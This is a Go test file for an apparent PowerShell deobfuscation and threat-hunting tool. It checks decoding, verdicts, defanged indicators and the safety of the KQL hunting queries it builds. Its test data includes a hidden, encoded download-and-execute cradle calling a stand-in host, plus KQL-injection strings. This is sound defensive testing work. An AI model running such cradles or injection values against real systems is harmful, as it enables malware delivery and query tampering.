package scripts

import (
	"errors"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/secmcp/secmcp/internal/kqlcheck"
	"github.com/secmcp/secmcp/internal/psdeob"
	"github.com/secmcp/secmcp/internal/source"
	"github.com/secmcp/secmcp/tools"
)

// liveLink matches a clickable URL in rendered text.
var liveLink = regexp.MustCompile(`(?i)\b(?:https?|ftp)://`)

type sample struct {
	name        string
	script      string
	layers      int
	lastMethod  string // substring of the innermost layer's method
	lastText    string
	verdict     string
	indicators  map[string]string // value → type
	techniques  []string
	queryTables []string
}

func samples(t *testing.T) []sample {
	return []sample{
		{
			name:   "encoded download",
			script: "powershell.exe -NoProfile -EncodedCommand " + encodedCommand(`Invoke-WebRequest -Uri 'https://downloads.contoso-tools.example/agent/setup.msi' -OutFile "$env:TEMP\setup.msi"`),
			layers: 2, lastMethod: "EncodedCommand", lastText: "Invoke-WebRequest -Uri",
			verdict: psdeob.VerdictMalicious,
			indicators: map[string]string{
				"https://downloads.contoso-tools.example/agent/setup.msi": "url",
				"downloads.contoso-tools.example":                         "domain",
			},
			techniques:  []string{"T1027", "T1105"},
			queryTables: []string{"DeviceNetworkEvents", "UrlClickEvents", "DeviceProcessEvents", "DeviceFileEvents"},
		},
		{
			name: "gzip registry",
			script: "iex ([IO.StreamReader]::new([IO.Compression.GZipStream]::new([IO.MemoryStream][Convert]::FromBase64String('" +
				gzipBase64(t, `Set-ItemProperty -Path 'HKCU:\Software\Contoso\Updater' -Name Channel -Value 'stable'`) +
				"'), [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
			layers: 2, lastMethod: "gzip", lastText: "Set-ItemProperty",
			verdict:     psdeob.VerdictSuspicious,
			indicators:  map[string]string{`HKCU:\Software\Contoso\Updater`: "registry"},
			techniques:  []string{"T1027", "T1112"},
			queryTables: []string{"DeviceProcessEvents", "DeviceRegistryEvents"},
		},
		{
			name:   "char array",
			script: "iex (-join [char[]](87,114,105,116,101,45,72,111,115,116,32,39,104,105,39))",
			layers: 2, lastMethod: "Invoke-Expression", lastText: "Write-Host 'hi'",
			verdict: psdeob.VerdictSuspicious, techniques: []string{"T1027"},
		},
		{
			name:   "plain",
			script: "Get-Service | Where-Object Status -eq 'Running' | Select-Object -First 5",
			layers: 1, lastMethod: "input", lastText: "Get-Service",
			verdict: psdeob.VerdictBenign,
		},
	}
}

func TestAnalyzeSamples(t *testing.T) {
	e := newEnv(t)
	for _, s := range samples(t) {
		t.Run(s.name, func(t *testing.T) {
			r, text := e.mustCall(t, "alpha", map[string]any{"script": s.script})
			if len(r.Layers) != s.layers || r.FinalLayer != s.layers-1 {
				t.Fatalf("layers = %d (final %d), want %d", len(r.Layers), r.FinalLayer, s.layers)
			}
			last := r.Layers[len(r.Layers)-1]
			if !strings.Contains(last.Method, s.lastMethod) || !strings.Contains(last.Text, s.lastText) {
				t.Errorf("innermost layer = %q via %q, want %q via %q", last.Text, last.Method, s.lastText, s.lastMethod)
			}
			if r.Verdict != s.verdict {
				t.Errorf("verdict = %s, want %s", r.Verdict, s.verdict)
			}
			checkIndicators(t, r, s.indicators)
			for _, id := range s.techniques {
				if !slices.ContainsFunc(r.Techniques, func(x Technique) bool { return x.ID == id }) {
					t.Errorf("technique %s missing: %+v", id, r.Techniques)
				}
			}
			checkQueries(t, r, s.queryTables)
			if r.Explanation == "" || !strings.Contains(r.Explanation, "Verdict: "+s.verdict) {
				t.Errorf("explanation does not state the verdict: %q", r.Explanation)
			}
			if liveLink.MatchString(text) || liveLink.MatchString(r.Explanation) {
				t.Errorf("text or explanation holds a live link:\n%s\n%s", text, r.Explanation)
			}
			if len(r.Sources) != 1 || r.Sources[0].URI != "secmcp://alpha/scripts/"+r.SHA256 || r.URI != r.Sources[0].URI {
				t.Errorf("sources = %+v, uri %s", r.Sources, r.URI)
			}
		})
	}
}

func checkIndicators(t *testing.T, r AnalyzeResult, want map[string]string) {
	t.Helper()
	got := map[string]Indicator{}
	for _, i := range r.Indicators {
		got[i.Value] = i
		if i.Layer < 0 || i.Layer >= len(r.Layers) || i.Line < 1 {
			t.Errorf("indicator %+v has no valid layer/line", i)
		}
		if (i.Type == "url" || i.Type == "domain") && (liveLink.MatchString(i.Defanged) || !strings.Contains(i.Defanged, "[.]")) {
			t.Errorf("indicator %q is not defanged: %q", i.Value, i.Defanged)
		}
	}
	for v, typ := range want {
		if i, ok := got[v]; !ok || i.Type != typ {
			t.Errorf("indicator %s %q missing; got %+v", typ, v, r.Indicators)
		}
	}
}

func checkQueries(t *testing.T, r AnalyzeResult, tables []string) {
	t.Helper()
	var got []string
	for _, q := range r.HuntingQueries {
		got = append(got, q.Table)
		rep := kqlcheck.Default().Validate(q.Query)
		if !rep.Valid || !rep.Safe || rep.Errors > 0 || !slices.Equal(rep.Tables, []string{q.Table}) {
			t.Errorf("query %s is not valid/safe on %s only: %+v\n%s", q.Name, q.Table, rep.Diagnostics, q.Query)
		}
		for _, v := range q.Values {
			if !strings.Contains(q.Query, kqlString(v)) {
				t.Errorf("query %s does not search for %q:\n%s", q.Name, v, q.Query)
			}
		}
	}
	if !slices.Equal(got, tables) {
		t.Errorf("query tables = %v, want %v", got, tables)
	}
}

func TestHostileHuntingValues(t *testing.T) {
	a := &psdeob.Analysis{
		Layers: []psdeob.Layer{{Text: "x"}},
		HuntingHints: psdeob.HuntingHints{
			Domains:      []string{`evil.example") | externaldata (x:string) [@"https://x.example/y"] //`, `a\"b.example`, "ok.example", "bad\nline.example"},
			FileNames:    []string{`c.exe"); .drop table T; print("`},
			RegistryKeys: []string{`HKLM:\SOFTWARE\Evil" or 1==1 //\Run`},
		},
	}
	qs := huntingQueries(a, kqlcheck.Default())
	if len(qs) == 0 {
		t.Fatal("no queries")
	}
	for _, q := range qs {
		rep := kqlcheck.Default().Validate(q.Query)
		if !rep.Valid || !rep.Safe || len(rep.Tables) != 1 || rep.Tables[0] != q.Table {
			t.Errorf("%s: hostile value escaped its literal: %+v\n%s", q.Name, rep, q.Query)
		}
		if strings.Contains(q.Query, "bad\nline") {
			t.Errorf("%s: value with a control character was used:\n%s", q.Name, q.Query)
		}
	}
}

func TestAnalyzeFromAlertIsTenantIsolated(t *testing.T) {
	e := newEnv(t)
	cradle := "IEX (New-Object Net.WebClient).DownloadString('https://cdn.fabrikam-update.test/s/update.ps1')"
	e.alpha.alerts["a1"] = source.Alert{ID: "a1", Title: "Suspicious PowerShell command line", Evidence: []source.Evidence{
		{Kind: "deviceEvidence", DeviceName: "pc-1"},
		{Kind: "processEvidence", DeviceName: "pc-1", ProcessID: 10, FileName: "WINWORD.EXE", ProcessCommandLine: `"WINWORD.EXE" /n "C:\Users\a\Downloads\q3.docm"`},
		{Kind: "processEvidence", DeviceName: "pc-1", ProcessID: 11, FileName: "powershell.exe", ProcessCommandLine: "powershell.exe -nop -w hidden -enc " + encodedCommand(cradle)},
	}}
	r, _ := e.mustCall(t, "alpha", map[string]any{"fromAlertId": "a1"})
	if r.Alert == nil || r.Alert.ID != "a1" || len(r.Alert.Lines) != 1 || r.Alert.Lines[0].FileName != "powershell.exe" {
		t.Fatalf("alert input = %+v, want the PowerShell evidence only", r.Alert)
	}
	checkIndicators(t, r, map[string]string{"https://cdn.fabrikam-update.test/s/update.ps1": "url", "cdn.fabrikam-update.test": "domain"})
	if r.Layers[r.FinalLayer].Text != cradle {
		t.Errorf("final layer = %q", r.Layers[r.FinalLayer].Text)
	}
	if len(r.Sources) != 2 || r.Sources[1].URI != "secmcp://alpha/alerts/a1" || r.Sources[1].Portal == "" {
		t.Errorf("sources = %+v", r.Sources)
	}
	// The same alert ID asked in beta is looked up in beta only.
	_, _, err := e.call(t, "beta", map[string]any{"fromAlertId": "a1"})
	var te *tools.ToolError
	if !errors.As(err, &te) || te.Kind != "not_found" || !strings.Contains(te.Msg, `tenant "beta"`) {
		t.Fatalf("beta call = %v, want not found in beta", err)
	}
	if len(e.alpha.gets) != 1 || len(e.beta.gets) != 1 {
		t.Errorf("alpha gets %v, beta gets %v", e.alpha.gets, e.beta.gets)
	}
	// A caller of beta cannot name alpha.
	if _, _, err := e.call(t, "beta", map[string]any{"fromAlertId": "a1", "tenant": "alpha"}); !errors.As(err, &te) || te.Kind != "refused" {
		t.Errorf("cross-tenant call = %v, want refused", err)
	}
}

func TestAnalyzeArguments(t *testing.T) {
	e := newEnv(t)
	for _, args := range []map[string]any{
		{},
		{"script": "   "},
		{"script": "Get-Date", "fromAlertId": "a1"},
		{"script": "Get-Date", "run": true},
	} {
		if _, _, err := e.call(t, "alpha", args); err == nil {
			t.Errorf("%v: no error", args)
		}
	}
	e.alpha.alerts["noproc"] = source.Alert{ID: "noproc", Evidence: []source.Evidence{{Kind: "userEvidence", UserPrincipalName: "u@x"}}}
	if _, _, err := e.call(t, "alpha", map[string]any{"fromAlertId": "noproc"}); err == nil || !strings.Contains(err.Error(), "no process evidence") {
		t.Errorf("alert without process evidence: %v", err)
	}
	p := AnalyzeParams{Script: strings.Repeat("a", MaxScriptBytes+1)}
	if err := p.Validate(); err == nil {
		t.Error("oversize script accepted")
	}
}
